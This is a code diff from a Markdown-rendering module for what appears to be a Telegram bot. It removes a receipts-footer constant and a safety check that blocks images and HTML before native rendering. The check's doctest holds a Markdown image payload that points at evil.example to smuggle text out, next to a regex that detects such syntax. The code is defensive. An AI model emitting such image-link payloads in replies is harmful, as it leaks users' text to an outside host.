@@ -24,8 +24,6 @@ MAX_MARKDOWN = 64_000
 # ones.
 MAX_NESTING = 20
 REPEAT_MARK = "(again) "
-# Heading of the receipts in the footer of a reply.
-RECORDS_HEAD = "— What I actually did —"
 
 # Possible Markdown; a text without a match needs no parser.
 _SYNTAX = re.compile(
@@ -75,35 +73,6 @@ def is_too_deep(tokens: "Sequence[Token]") -> bool:
     """Return True if the parser dropped text because of MAX_NESTING."""
     deepest = (token.type for token in tokens if token.level >= MAX_NESTING - 1)
     return not {"blockquote_open", "list_item_open"}.isdisjoint(deepest)
-
-
-# Characters of Markdown that Telegram renders itself; its limit is 32,768.
-MAX_NATIVE = 30_000
-# Images, which it would load, and HTML; formulas, spoilers and marks, which are never intended.
-_NOT_NATIVE = re.compile(r"!\[|<[A-Za-z/!?]|\$[^$]*\$|\|\|[^|]*\|\||==\S[^=]*==")
-# Links, also by reference; Telegram hides their address.
-_LINK = re.compile(r"\][(\[:]")
-_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
-
-
-def native(markdown: str, footer: str, *, hide_targets: bool = True) -> str:
-    r"""Return a reply as Markdown that Telegram renders itself, or "" if that is unsafe.
-
-    It is unsafe if it contains an image or HTML anywhere: code for our parser may not be code for
-    theirs, and loading an image can exfiltrate text.  Without *hide_targets* a link is also unsafe.
-    The footer becomes a quote.
-
-    >>> native("# A\n\nb", "read *x*"), native("`![](https://evil.example/?words)`", "")
-    ('# A\n\nb\n\n> read \\*x\\*', '')
-    """
-    text, footer = clean(markdown).strip(), clean(footer)
-    if len(text) + len(footer) > MAX_NATIVE or _NOT_NATIVE.search(f"{text}\n{footer}"):
-        return ""
-    if not hide_targets and _LINK.search(text):
-        return ""
-    lines = [_PUNCTUATION.sub(r"\\\1", line) for line in footer.splitlines()]
-    quote = "  \n> ".join(lines)
-    return f"{text}\n\n> {quote}" if footer else text
 
 
 def mark_repeat(rich: Rich) -> Rich:
